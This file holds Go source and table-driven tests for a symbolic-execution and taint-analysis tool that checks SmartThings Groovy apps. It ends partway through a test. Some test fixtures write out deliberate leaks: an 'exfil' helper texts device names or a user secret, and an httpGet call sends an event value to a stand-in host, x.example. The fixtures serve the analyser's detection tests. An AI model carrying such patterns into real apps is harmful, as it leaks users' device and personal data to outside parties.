				Value: eff.Value, Pos: call.Pos,
			})
		}
	}
	if cmd.ArgAttr == "" || len(call.Args) == 0 {
		addEffects(p)
		return one(p, Value{Kind: KNull})
	}
	outs := x.eval(call.Args[0], p)
	for _, o := range outs {
		addEffects(o.p)
		o.p.actions = append(o.p.actions, Action{
			Handle: perm.Handle, Cap: perm.Cap.Name, Attr: cmd.ArgAttr,
			Value: o.v.Label(), Symbolic: o.v.Kind == KSym, ValueKind: o.v.SymKind,
			Pos: call.Pos,
		})
	}
	return nullVals(outs)
}

// nullVals replaces every out value with null (actions evaluate to
// null in Groovy).
func nullVals(outs []out) []out {
	for i := range outs {
		outs[i].v = Value{Kind: KNull}
	}
	return outs
}

// inlineCall executes an app method body inline with the arguments
// bound to its parameters.
func (x *executor) inlineCall(name string, args []groovy.Expr, p *pstate) []out {
	m := x.app.File.MethodByName(name)
	if m == nil {
		return one(p, SymVal(name+"()", pathcond.UnknownSource))
	}
	if p.depth >= maxInlineDepth || contains(p.stack, name) {
		x.warnf("call to %s not inlined (depth/recursion)", name)
		return one(p, SymVal(name+"()", pathcond.UnknownSource))
	}
	// Evaluate arguments (possibly forking).
	argOuts := []out{{p: p}}
	var argVals [][]Value
	argVals = append(argVals, nil)
	for _, a := range args {
		var next []out
		var nextVals [][]Value
		for i, o := range argOuts {
			res := x.eval(a, o.p)
			for _, r := range res {
				next = append(next, r)
				nextVals = append(nextVals, append(append([]Value{}, argVals[i]...), r.v))
			}
		}
		argOuts = next
		argVals = nextVals
	}
	var outs []out
	for i, o := range argOuts {
		q := o.p
		savedRet := q.ret
		q.ret = nil
		q.depth++
		q.stack = append(q.stack, name)
		q.pushFrame()
		for pi, param := range m.Params {
			if pi < len(argVals[i]) {
				q.setLocal(param, argVals[i][pi])
			} else {
				q.setLocal(param, Value{Kind: KNull})
			}
		}
		finals := x.execBlock(m.Body, []*pstate{q})
		for _, f := range finals {
			ret := Value{Kind: KNull}
			if f.ret != nil {
				ret = *f.ret
			}
			f.ret = savedRet
			f.popFrame()
			f.depth--
			f.stack = f.stack[:len(f.stack)-1]
			outs = append(outs, out{p: f, v: ret})
		}
	}
	return outs
}

func contains(ss []string, s string) bool {
	for _, t := range ss {
		if t == s {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------------------
// Conditions

// condOf converts a branch condition into a path-condition
// contribution, substituting the symbolic environment.
func (x *executor) condOf(e groovy.Expr, negated bool, p *pstate) pathcond.Cond {
	switch ex := e.(type) {
	case *groovy.BinaryExpr:
		switch ex.Op {
		case groovy.ANDAND:
			if !negated {
				return x.condOf(ex.L, false, p).And(x.condOf(ex.R, false, p))
			}
		case groovy.OROR:
			if negated {
				return x.condOf(ex.L, true, p).And(x.condOf(ex.R, true, p))
			}
		case groovy.EQ, groovy.NEQ, groovy.LT, groovy.LEQ, groovy.GT, groovy.GEQ:
			l := x.evalPure(ex.L, p)
			r := x.evalPure(ex.R, p)
			if a, ok := atomOf(l, ex.Op, r); ok {
				if negated {
					a = a.Negated()
				}
				return pathcond.True().WithAtom(a)
			}
		}
	case *groovy.UnaryExpr:
		if ex.Op == groovy.NOT {
			return x.condOf(ex.X, !negated, p)
		}
	}
	// Bare truthiness of a symbolic value, or unsupported shape.
	v := x.evalPure(e, p)
	term := v.Label()
	if v.Kind != KSym {
		term = groovy.Format(e)
	}
	return pathcond.True().WithOpaque(term, negated)
}

// atomOf builds a pathcond atom from evaluated comparison sides.
func atomOf(l Value, op groovy.TokKind, r Value) (pathcond.Atom, bool) {
	po := cmpOp(op)
	// Normalise: symbolic side on the left.
	if l.Kind != KSym && r.Kind == KSym {
		l, r = r, l
		po = swapOp(po)
	}
	if l.Kind != KSym {
		return pathcond.Atom{}, false
	}
	a := pathcond.Atom{Var: l.Sym, Op: po, VarKind: l.SymKind}
	switch r.Kind {
	case KNum:
		a.IsNum = true
		a.Num = r.Num
		a.CmpKind = pathcond.DeveloperDefined
		return a, true
	case KStr:
		a.Str = r.Str
		a.CmpKind = pathcond.DeveloperDefined
		return a, true
	case KBool:
		a.Str = fmt.Sprintf("%t", r.Bool)
		a.CmpKind = pathcond.DeveloperDefined
		return a, true
	case KSym:
		a.RHSVar = r.Sym
		a.CmpKind = r.SymKind
		return a, true
	}
	return pathcond.Atom{}, false
}

func cmpOp(k groovy.TokKind) pathcond.Op {
	switch k {
	case groovy.EQ:
		return pathcond.EQ
	case groovy.NEQ:
		return pathcond.NE
	case groovy.LT:
		return pathcond.LT
	case groovy.LEQ:
		return pathcond.LE
	case groovy.GT:
		return pathcond.GT
	case groovy.GEQ:
		return pathcond.GE
	}
	return pathcond.EQ
}

func swapOp(o pathcond.Op) pathcond.Op {
	switch o {
	case pathcond.LT:
		return pathcond.GT
	case pathcond.LE:
		return pathcond.GE
	case pathcond.GT:
		return pathcond.LT
	case pathcond.GE:
		return pathcond.LE
	}
	return o
}

// ---------------------------------------------------------------------------
// ESP merging

// mergePaths merges exploration results with identical action
// sequences, in the spirit of the ESP algorithm (§4.2.2): if the end
// states of two paths agree, their guards are joined — and when the
// two guards differ by exactly one complementary atom, that atom is
// dropped entirely.
func mergePaths(finals []*pstate) ([]Path, int) {
	groups := map[string][]pathcond.Cond{}
	actionsOf := map[string][]Action{}
	var order []string
	for _, p := range finals {
		path := Path{Guard: p.guard, Actions: p.actions}
		sig := path.ActionsSignature()
		if _, seen := groups[sig]; !seen {
			order = append(order, sig)
			actionsOf[sig] = p.actions
		}
		groups[sig] = append(groups[sig], p.guard)
	}
	var out []Path
	merged := 0
	for _, sig := range order {
		guards := groups[sig]
		guards, m := mergeGuards(guards)
		merged += m
		for _, g := range guards {
			out = append(out, Path{Guard: g, Actions: actionsOf[sig]})
		}
	}
	return out, merged
}

// mergeGuards repeatedly merges pairs of guards that differ by one
// complementary atom, and deduplicates identical guards.
func mergeGuards(gs []pathcond.Cond) ([]pathcond.Cond, int) {
	merged := 0
	for {
		progress := false
		// Dedup.
		seen := map[string]bool{}
		var uniq []pathcond.Cond
		for _, g := range gs {
			k := g.Canonical()
			if !seen[k] {
				seen[k] = true
				uniq = append(uniq, g)
			} else {
				merged++
				progress = true
			}
		}
		gs = uniq
	pairLoop:
		for i := 0; i < len(gs); i++ {
			for j := i + 1; j < len(gs); j++ {
				if g, ok := mergeTwo(gs[i], gs[j]); ok {
					gs[i] = g
					gs = append(gs[:j], gs[j+1:]...)
					merged++
					progress = true
					break pairLoop
				}
			}
		}
		if !progress {
			return gs, merged
		}
	}
}

// mergeTwo merges two guards that differ in exactly one atom with
// opposite polarity (a ∧ rest) ∨ (¬a ∧ rest) = rest.
func mergeTwo(a, b pathcond.Cond) (pathcond.Cond, bool) {
	if len(a.Atoms) != len(b.Atoms) || len(a.Opaque) != len(b.Opaque) {
		return pathcond.Cond{}, false
	}
	countA := map[string]int{}
	for _, at := range a.Atoms {
		countA[at.String()]++
	}
	for _, op := range a.Opaque {
		countA["#"+op]++
	}
	countB := map[string]int{}
	for _, at := range b.Atoms {
		countB[at.String()]++
	}
	for _, op := range b.Opaque {
		countB["#"+op]++
	}
	var onlyA, onlyB []pathcond.Atom
	for _, at := range a.Atoms {
		if countB[at.String()] == 0 {
			onlyA = append(onlyA, at)
		}
	}
	for _, at := range b.Atoms {
		if countA[at.String()] == 0 {
			onlyB = append(onlyB, at)
		}
	}
	var onlyAOp, onlyBOp []string
	for _, op := range a.Opaque {
		if countB["#"+op] == 0 {
			onlyAOp = append(onlyAOp, op)
		}
	}
	for _, op := range b.Opaque {
		if countA["#"+op] == 0 {
			onlyBOp = append(onlyBOp, op)
		}
	}

	switch {
	case len(onlyA) == 1 && len(onlyB) == 1 && len(onlyAOp) == 0 && len(onlyBOp) == 0:
		if onlyA[0].Negated() != onlyB[0] {
			return pathcond.Cond{}, false
		}
		var atoms []pathcond.Atom
		dropped := false
		for _, at := range a.Atoms {
			if !dropped && at == onlyA[0] {
				dropped = true
				continue
			}
			atoms = append(atoms, at)
		}
		return pathcond.Cond{Atoms: atoms, Opaque: a.Opaque}, true

	case len(onlyA) == 0 && len(onlyB) == 0 && len(onlyAOp) == 1 && len(onlyBOp) == 1:
		if onlyBOp[0] != "!("+onlyAOp[0]+")" && onlyAOp[0] != "!("+onlyBOp[0]+")" {
			return pathcond.Cond{}, false
		}
		var opq []string
		dropped := false
		for _, op := range a.Opaque {
			if !dropped && op == onlyAOp[0] {
				dropped = true
				continue
			}
			opq = append(opq, op)
		}
		return pathcond.Cond{Atoms: a.Atoms, Opaque: opq}, true
	}
	return pathcond.Cond{}, false
}
