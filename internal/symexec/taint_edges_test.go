// Table-driven tests for the symbolic-execution edges the taint family
// depends on: sink guards must carry branch atoms with the right
// polarity (negated on else-edges), sinks on contradictory paths must
// be pruned, and taint marks must survive handler-boundary crossings —
// helper-method inlining, return values, closures, and the
// subscription-value constraint seeding the entry guard.
package symexec

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/pathcond"
)

// sinkApp wraps a handler body and optional extra method declarations
// into a presence-sensor app. sub selects the subscription attribute
// ("presence" or a value form like "presence.not present").
func sinkApp(sub, body, extra string) string {
	return `
definition(name: "t", namespace: "t", author: "t")
preferences {
    section("Devices") {
        input "kids", "capability.presenceSensor"
        input "meter", "capability.powerMeter"
        input "secret", "text", title: "Secret"
    }
}
def installed() { subscribe(kids, "` + sub + `", h) }
def h(evt) {
` + body + `
}
` + extra
}

// sinksNamed filters a result's sinks by call name.
func sinksNamed(r *Result, name string) []SinkCall {
	var out []SinkCall
	for _, s := range r.Sinks {
		if s.Name == name {
			out = append(out, s)
		}
	}
	return out
}

// hasAtom reports whether the guard contains the atom Var Op Str.
func hasAtom(g pathcond.Cond, v string, op pathcond.Op, s string) bool {
	for _, a := range g.Atoms {
		if a.Var == v && a.Op == op && a.Str == s {
			return true
		}
	}
	return false
}

// taintVars flattens a sink argument's taint marks to source names.
func taintVars(a SinkArg) []string {
	var out []string
	for _, l := range a.Taint {
		out = append(out, l.Var)
	}
	return out
}

// TestSinkGuardBranchNegation pins the polarity of branch atoms on
// sink guards: a sink in the then-branch records the tested atom, a
// sink in the else-branch records its negation, and an unconditional
// sink after the branch carries neither.
func TestSinkGuardBranchNegation(t *testing.T) {
	cases := []struct {
		name string
		body string
		// wantOp/wantStr describe the expected evt.value atom on the
		// sendSms guard; wantNone asserts an atom-free (true) guard.
		wantOp   pathcond.Op
		wantStr  string
		wantNone bool
	}{
		{
			name: "then-branch sink keeps the tested atom",
			body: `    if (evt.value == "not present") {
        sendSms("555-0100", "gone ${evt.displayName}")
    }`,
			wantOp: pathcond.EQ, wantStr: "not present",
		},
		{
			name: "else-branch sink negates the tested atom",
			body: `    if (evt.value == "present") {
        log.debug "home"
    } else {
        sendSms("555-0100", "gone ${evt.displayName}")
    }`,
			wantOp: pathcond.NE, wantStr: "present",
		},
		{
			name: "post-branch sink is unconditional",
			body: `    if (evt.value == "present") {
        log.debug "home"
    }
    sendSms("555-0100", "seen ${evt.displayName}")`,
			wantNone: true,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := execEntry(t, sinkApp("presence", tc.body, ""), "h")
			sinks := sinksNamed(r, "sendSms")
			if len(sinks) != 1 {
				t.Fatalf("sendSms sinks = %d: %+v", len(sinks), r.Sinks)
			}
			g := sinks[0].Guard
			if tc.wantNone {
				if !g.IsTrue() {
					t.Errorf("guard = %s, want true", g)
				}
				return
			}
			if !hasAtom(g, "evt.value", tc.wantOp, tc.wantStr) {
				t.Errorf("guard = %s, want evt.value %s %q", g, tc.wantOp, tc.wantStr)
			}
			if !pathcond.Feasible(g) {
				t.Errorf("guard %s should be satisfiable", g)
			}
		})
	}
}

// TestSinkContradictionPruning covers infeasible-path pruning of sink
// records: a transmission only reachable through contradictory
// branches must not appear in the result at all — the property the
// taint family relies on to avoid impossible witnesses.
func TestSinkContradictionPruning(t *testing.T) {
	cases := []struct {
		name      string
		sub       string
		body      string
		wantSinks int
	}{
		{
			name: "nested contradictory string branches",
			sub:  "presence",
			body: `    if (evt.value == "present") {
        if (evt.value == "not present") {
            sendSms("555-0100", "impossible ${evt.displayName}")
        }
    }`,
			wantSinks: 0,
		},
		{
			name: "subscription value contradicts the branch",
			sub:  "presence.present",
			body: `    if (evt.value == "not present") {
        sendSms("555-0100", "impossible ${evt.displayName}")
    }`,
			wantSinks: 0,
		},
		{
			name: "subscription value agrees with the branch",
			sub:  "presence.not present",
			body: `    if (evt.value == "not present") {
        sendSms("555-0100", "gone ${evt.displayName}")
    }`,
			wantSinks: 1,
		},
		{
			name: "contradictory numeric window",
			sub:  "presence",
			body: `    def p = meter.currentValue("power")
    if (p > 50) {
        if (p < 5) {
            sendSms("555-0100", "impossible ${evt.displayName}")
        }
    }`,
			wantSinks: 0,
		},
		{
			name: "complementary branches keep distinct call sites",
			sub:  "presence",
			body: `    if (evt.value == "present") {
        sendSms("555-0100", "a ${evt.displayName}")
    } else {
        sendSms("555-0100", "a ${evt.displayName}")
    }`,
			// Two distinct call sites: each records its own sink under
			// its branch's (feasible) guard.
			wantSinks: 2,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := execEntry(t, sinkApp(tc.sub, tc.body, ""), "h")
			sinks := sinksNamed(r, "sendSms")
			if len(sinks) != tc.wantSinks {
				t.Fatalf("sendSms sinks = %d, want %d: %+v", len(sinks), tc.wantSinks, sinks)
			}
			for _, s := range sinks {
				if !pathcond.Feasible(s.Guard) {
					t.Errorf("recorded sink carries infeasible guard %s", s.Guard)
				}
			}
		})
	}
}

// TestHandlerBoundaryPropagation covers taint crossing call
// boundaries: into inlined helper methods via parameters, back out via
// return values, through nested helpers, and into trailing-closure
// sinks — with sanitizer calls as the mark-clearing boundary.
func TestHandlerBoundaryPropagation(t *testing.T) {
	cases := []struct {
		name  string
		body  string
		extra string
		sink  string
		// want is the expected taint source set of the sink's payload
		// argument (argument 1 for sendSms, 0 otherwise); empty means
		// the payload must be clean.
		want []string
	}{
		{
			name: "parameter passes taint into a helper",
			body: `    exfil("x ${evt.displayName}")`,
			extra: `
def exfil(msg) {
    sendSms("555-0100", msg)
}
`,
			sink: "sendSms",
			want: []string{"evt.displayName"},
		},
		{
			name: "helper return value carries taint back",
			body: `    sendSms("555-0100", fmt())`,
			extra: `
def fmt() {
    return "seen ${evt.displayName}"
}
`,
			sink: "sendSms",
			want: []string{"evt.displayName"},
		},
		{
			name: "taint survives two helper hops",
			body: `    hop1("x ${secret}")`,
			extra: `
def hop1(a) { hop2(a) }
def hop2(b) { sendSms("555-0100", b) }
`,
			sink: "sendSms",
			want: []string{"secret"},
		},
		{
			name: "trailing-closure network sink records its argument",
			body: `    httpGet("http://x.example/?v=${evt.value}") { resp -> log.debug "$resp" }`,
			sink: "httpGet",
			want: []string{"evt.value"},
		},
		{
			name: "sanitizer at the boundary clears the mark",
			body: `    exfil(redact("x ${evt.displayName}"))`,
			extra: `
def exfil(msg) {
    sendSms("555-0100", msg)
}
`,
			sink: "sendSms",
			want: nil,
		},
		{
			name: "helper named like a sanitizer still propagates",
			body: `    sendSms("555-0100", redact("x ${evt.displayName}"))`,
			extra: `
def redact(s) {
    return s
}
`,
			// An app method shadows the platform sanitizer: it is
			// inlined, and this one returns its input unscrubbed.
			sink: "sendSms",
			want: []string{"evt.displayName"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := execEntry(t, sinkApp("presence", tc.body, tc.extra), "h")
			sinks := sinksNamed(r, tc.sink)
			if len(sinks) != 1 {
				t.Fatalf("%s sinks = %d: %+v", tc.sink, len(sinks), r.Sinks)
			}
			payload := 0
			if tc.sink == "sendSms" {
				payload = 1
			}
			if payload >= len(sinks[0].Args) {
				t.Fatalf("sink args = %+v, want a payload at %d", sinks[0].Args, payload)
			}
			got := taintVars(sinks[0].Args[payload])
			if strings.Join(got, ",") != strings.Join(tc.want, ",") {
				t.Errorf("payload taint = %v, want %v", got, tc.want)
			}
		})
	}
}

// TestEntryGuardSeedsSinkCondition pins the handler-entry boundary:
// subscribing to a specific attribute value constrains evt.value on
// every path, and that constraint reaches the sink guard — the
// condition taint witnesses render.
func TestEntryGuardSeedsSinkCondition(t *testing.T) {
	r := execEntry(t, sinkApp("presence.not present",
		`    sendSms("555-0100", "gone ${evt.displayName}")`, ""), "h")
	sinks := sinksNamed(r, "sendSms")
	if len(sinks) != 1 {
		t.Fatalf("sinks = %+v", r.Sinks)
	}
	g := sinks[0].Guard
	if !hasAtom(g, "evt.value", pathcond.EQ, "not present") {
		t.Errorf("entry constraint missing from sink guard %s", g)
	}
	if got := g.Canonical(); !strings.Contains(got, `evt.value == "not present"`) {
		t.Errorf("canonical guard = %q", got)
	}
}

// TestUnionLabelsDeterministic pins unionLabels' dedup and ordering —
// flow reports sort by these marks, so the union must be canonical.
func TestUnionLabelsDeterministic(t *testing.T) {
	a := Label{Kind: pathcond.DeviceState, Var: "evt.value"}
	b := Label{Kind: pathcond.UserDefined, Var: "secret"}
	c := Label{Kind: pathcond.DeviceState, Var: "evt.displayName"}
	got := unionLabels([]Label{b, a}, []Label{a, c}, nil, []Label{c})
	want := []Label{
		{Kind: pathcond.UserDefined, Var: "secret"},
		{Kind: pathcond.DeviceState, Var: "evt.displayName"},
		{Kind: pathcond.DeviceState, Var: "evt.value"},
	}
	if len(got) != len(want) {
		t.Fatalf("union = %+v, want %+v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("union[%d] = %+v, want %+v", i, got[i], want[i])
		}
	}
	if unionLabels(nil, nil) != nil {
		t.Error("empty union should be nil")
	}
}

// TestSinkBeforeForkRecordedOnce ensures a sink recorded before a
// branch fork does not duplicate across descendant paths.
func TestSinkBeforeForkRecordedOnce(t *testing.T) {
	r := execEntry(t, sinkApp("presence", `    sendSms("555-0100", "seen ${evt.displayName}")
    if (evt.value == "present") {
        log.debug "home"
    } else {
        log.debug "away"
    }`, ""), "h")
	sinks := sinksNamed(r, "sendSms")
	if len(sinks) != 1 {
		t.Fatalf("pre-fork sink recorded %d times: %+v", len(sinks), sinks)
	}
	if !sinks[0].Guard.IsTrue() {
		t.Errorf("pre-fork sink guard = %s, want true", sinks[0].Guard)
	}
}
