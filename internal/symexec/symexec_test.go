package symexec

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/pathcond"
)

func execEntry(t *testing.T, src, handler string) *Result {
	t.Helper()
	app, err := ir.BuildSource("t", src)
	if err != nil {
		t.Fatalf("BuildSource: %v", err)
	}
	for _, ep := range app.EntryPoints {
		if ep.Sub.Handler == handler {
			return Execute(app, ep)
		}
	}
	t.Fatalf("entry point %s not found", handler)
	return nil
}

// pathWithAction returns the paths containing an action a with the
// given rendering (handle.attr:=value).
func pathsWithAction(r *Result, action string) []Path {
	var out []Path
	for _, p := range r.Paths {
		for _, a := range p.Actions {
			if a.String() == action {
				out = append(out, p)
				break
			}
		}
	}
	return out
}

func TestSmokeAlarmPaths(t *testing.T) {
	app, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	var smoke *ir.EntryPoint
	for _, ep := range app.EntryPoints {
		if ep.Sub.Handler == "smokeHandler" {
			smoke = ep
		}
	}
	r := Execute(app, smoke)
	// Expected paths: tested (no actions), clear (alarm off + valve
	// close), detected (alarm siren + valve open), else (no actions).
	// The two no-action paths may merge.
	sirenPaths := pathsWithAction(r, "the_alarm.alarm:=siren")
	if len(sirenPaths) != 1 {
		t.Fatalf("siren paths = %d; paths: %+v", len(sirenPaths), r.Paths)
	}
	g := sirenPaths[0].Guard
	// Guard must include evt.value == "detected".
	found := false
	for _, a := range g.Atoms {
		if a.Var == "evt.value" && a.Op == pathcond.EQ && a.Str == "detected" {
			found = true
		}
	}
	if !found {
		t.Errorf("guard = %s", g)
	}
	// The same path also opens the valve.
	hasValve := false
	for _, a := range sirenPaths[0].Actions {
		if a.String() == "the_valve.valve:=open" {
			hasValve = true
		}
	}
	if !hasValve {
		t.Errorf("detected path actions = %+v", sirenPaths[0].Actions)
	}
	// Clear path closes the valve and turns the alarm off.
	offPaths := pathsWithAction(r, "the_alarm.alarm:=off")
	if len(offPaths) != 1 {
		t.Fatalf("off paths = %d", len(offPaths))
	}
}

func TestBatteryHandlerSymbolicThreshold(t *testing.T) {
	app, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	var battery *ir.EntryPoint
	for _, ep := range app.EntryPoints {
		if ep.Sub.Handler == "batteryHandler" {
			battery = ep
		}
	}
	r := Execute(app, battery)
	onPaths := pathsWithAction(r, "the_switch.switch:=on")
	if len(onPaths) != 1 {
		t.Fatalf("switch-on paths = %d; %+v", len(onPaths), r.Paths)
	}
	// Guard: the_battery.battery < thrshld — a symbolic atom with a
	// user-defined right-hand side.
	g := onPaths[0].Guard
	var atom *pathcond.Atom
	for i := range g.Atoms {
		if g.Atoms[i].Var == "the_battery.battery" {
			atom = &g.Atoms[i]
		}
	}
	if atom == nil {
		t.Fatalf("no battery atom in guard %s", g)
	}
	if atom.Op != pathcond.LT || atom.RHSVar != "thrshld" {
		t.Errorf("atom = %+v", atom)
	}
	if atom.CmpKind != pathcond.UserDefined {
		t.Errorf("threshold should be labeled user-defined, got %s", atom.CmpKind)
	}
}

// TestThermostatPredicateLabels reproduces §4.2.2: with initial state
// switch-on, the path turning the switch off is guarded by
// currentValue("power")>50 and the path turning it on by <5.
func TestThermostatPredicateLabels(t *testing.T) {
	app, err := ir.BuildSource("thermostat", paperapps.ThermostatEnergyControl)
	if err != nil {
		t.Fatal(err)
	}
	var power *ir.EntryPoint
	for _, ep := range app.EntryPoints {
		if ep.Sub.Handler == "powerHandler" {
			power = ep
		}
	}
	r := Execute(app, power)
	offPaths := pathsWithAction(r, "the_switch.switch:=off")
	if len(offPaths) == 0 {
		t.Fatalf("no switch-off path; paths = %+v", r.Paths)
	}
	g := offPaths[0].Guard
	ok := false
	for _, a := range g.Atoms {
		if a.Var == "power_meter.power" && a.Op == pathcond.GT && a.Num == 50 {
			ok = true
			if a.CmpKind != pathcond.DeveloperDefined {
				t.Errorf("50 should be developer-defined, got %s", a.CmpKind)
			}
		}
	}
	if !ok {
		t.Errorf("off guard = %s", g)
	}
	onPaths := pathsWithAction(r, "the_switch.switch:=on")
	if len(onPaths) == 0 {
		t.Fatal("no switch-on path")
	}
	ok = false
	for _, a := range onPaths[0].Guard.Atoms {
		if a.Var == "power_meter.power" && a.Op == pathcond.LT && a.Num == 5 {
			ok = true
		}
	}
	if !ok {
		t.Errorf("on guard = %s", onPaths[0].Guard)
	}
	// The >50 and <5 branches cannot both be taken: no path has both
	// actions.
	for _, p := range r.Paths {
		has := map[string]bool{}
		for _, a := range p.Actions {
			has[a.String()] = true
		}
		if has["the_switch.switch:=off"] && has["the_switch.switch:=on"] {
			if pathcond.Feasible(p.Guard) {
				t.Errorf("feasible path with both on and off: %s", p.Guard)
			}
		}
	}
}

func TestModeHandlerInterproceduralAction(t *testing.T) {
	app, err := ir.BuildSource("thermostat", paperapps.ThermostatEnergyControl)
	if err != nil {
		t.Fatal(err)
	}
	var mode *ir.EntryPoint
	for _, ep := range app.EntryPoints {
		if ep.Sub.Handler == "modeChangeHandler" {
			mode = ep
		}
	}
	r := Execute(app, mode)
	if len(r.Paths) == 0 {
		t.Fatal("no paths")
	}
	// Every path locks the door and sets the heating setpoint to 68
	// (through the setTemp(temp) call).
	for _, p := range r.Paths {
		has := map[string]bool{}
		for _, a := range p.Actions {
			has[a.String()] = true
		}
		if !has["the_lock.lock:=locked"] {
			t.Errorf("path without lock action: %+v", p.Actions)
		}
		if !has["ther.heatingSetpoint:=68"] {
			t.Errorf("path without setpoint action: %+v", p.Actions)
		}
	}
}

func TestSubscriptionValueSeedsGuard(t *testing.T) {
	app, err := ir.BuildSource("water-leak", paperapps.WaterLeakDetector)
	if err != nil {
		t.Fatal(err)
	}
	r := Execute(app, app.EntryPoints[0])
	if len(r.Paths) == 0 {
		t.Fatal("no paths")
	}
	for _, p := range r.Paths {
		found := false
		for _, a := range p.Guard.Atoms {
			if a.Var == "evt.value" && a.Str == "wet" {
				found = true
			}
		}
		if !found {
			t.Errorf("path guard missing evt.value==wet: %s", p.Guard)
		}
		// Every path closes the valve.
		closed := false
		for _, a := range p.Actions {
			if a.String() == "valve_device.valve:=closed" {
				closed = true
			}
		}
		if !closed {
			t.Errorf("path without valve close: %+v", p.Actions)
		}
	}
}

func TestESPMergingCollapsesIrrelevantBranches(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch", h) }
def h(evt) {
    if (location.contactBookEnabled) {
        sendPush("a")
    } else {
        sendSms("123", "a")
    }
    sw.on()
}
`, "h")
	// Both branches end in the same action list, so ESP merging should
	// produce a single unconditional path.
	if len(r.Paths) != 1 {
		t.Fatalf("paths = %d, want 1 (merged); %+v", len(r.Paths), r.Paths)
	}
	if !r.Paths[0].Guard.IsTrue() {
		t.Errorf("merged guard = %s, want true", r.Paths[0].Guard)
	}
	if r.Merged == 0 {
		t.Error("expected Merged > 0")
	}
}

func TestConflictingActionsSamePath(t *testing.T) {
	// App4-style S.1 bug: the handler both turns the switch on and
	// off on one control-flow path.
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch", h) }
def h(evt) {
    sw.on()
    sw.off()
}
`, "h")
	if len(r.Paths) != 1 {
		t.Fatalf("paths = %d", len(r.Paths))
	}
	sig := r.Paths[0].ActionsSignature()
	if sig != "sw.switch:=on;sw.switch:=off" {
		t.Errorf("signature = %s", sig)
	}
}

func TestReflectionForksAllMethods(t *testing.T) {
	r := execEntry(t, `
preferences {
    section("s") { input "the_alarm", "capability.alarm" }
    section("d") { input "smoke_detector", "capability.smokeDetector" }
}
def installed() { subscribe(smoke_detector, "smoke", handler) }
def handler(evt) {
    "$name"()
}
def foo() { the_alarm.siren() }
def bar() { the_alarm.off() }
`, "handler")
	sirens := pathsWithAction(r, "the_alarm.alarm:=siren")
	offs := pathsWithAction(r, "the_alarm.alarm:=off")
	if len(sirens) == 0 || len(offs) == 0 {
		t.Errorf("reflection should fork to both methods; paths = %+v", r.Paths)
	}
}

func TestStaticStringReflectionDoesNotFork(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "the_alarm", "capability.alarm" } }
def installed() { subscribe(app, h) }
def h(evt) {
    def name = "foo"
    "$name"()
}
def foo() { the_alarm.siren() }
def bar() { the_alarm.off() }
`, "h")
	if len(pathsWithAction(r, "the_alarm.alarm:=off")) != 0 {
		t.Errorf("static reflection must not reach bar(); paths = %+v", r.Paths)
	}
	if len(pathsWithAction(r, "the_alarm.alarm:=siren")) != 1 {
		t.Errorf("static reflection should reach foo(); paths = %+v", r.Paths)
	}
}

func TestStateVariableGuard(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) {
    if (state.counter > 10) {
        sw.off()
    }
}
`, "h")
	offs := pathsWithAction(r, "sw.switch:=off")
	if len(offs) != 1 {
		t.Fatalf("off paths = %d", len(offs))
	}
	var atom *pathcond.Atom
	for i := range offs[0].Guard.Atoms {
		if offs[0].Guard.Atoms[i].Var == "state.counter" {
			atom = &offs[0].Guard.Atoms[i]
		}
	}
	if atom == nil {
		t.Fatalf("guard = %s", offs[0].Guard)
	}
	if atom.VarKind != pathcond.StateVariable {
		t.Errorf("state.counter should be labeled state-variable, got %s", atom.VarKind)
	}
}

func TestStateWriteVisibleToLaterRead(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) {
    state.mode = "manual"
    if (state.mode == "manual") {
        sw.off()
    }
}
`, "h")
	// The read observes the concrete write: the branch is decided and
	// only the off path exists.
	if len(r.Paths) != 1 {
		t.Fatalf("paths = %+v", r.Paths)
	}
	if len(pathsWithAction(r, "sw.switch:=off")) != 1 {
		t.Errorf("off path missing")
	}
}

func TestSetLocationModeAction(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch.off", h) }
def h(evt) {
    setLocationMode("home")
}
`, "h")
	if len(pathsWithAction(r, "location.mode:=home")) != 1 {
		t.Errorf("paths = %+v", r.Paths)
	}
}

func TestArgAttrSymbolicValue(t *testing.T) {
	r := execEntry(t, `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "userTemp", "number"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    ther.setHeatingSetpoint(userTemp)
}
`, "h")
	if len(r.Paths) != 1 {
		t.Fatalf("paths = %d", len(r.Paths))
	}
	a := r.Paths[0].Actions[0]
	if a.Value != "userTemp" || !a.Symbolic || a.ValueKind != pathcond.UserDefined {
		t.Errorf("action = %+v", a)
	}
}

func TestInfeasibleBranchDropped(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch", h) }
def h(evt) {
    def x = 5
    if (x > 10) {
        sw.off()
    }
}
`, "h")
	if len(pathsWithAction(r, "sw.switch:=off")) != 0 {
		t.Errorf("constant-false branch should be pruned; paths = %+v", r.Paths)
	}
}

func TestNestedBranchPathConditions(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "power", h) }
def h(evt) {
    def p = sw.currentValue("power")
    if (p > 10) {
        if (p > 100) {
            sw.off()
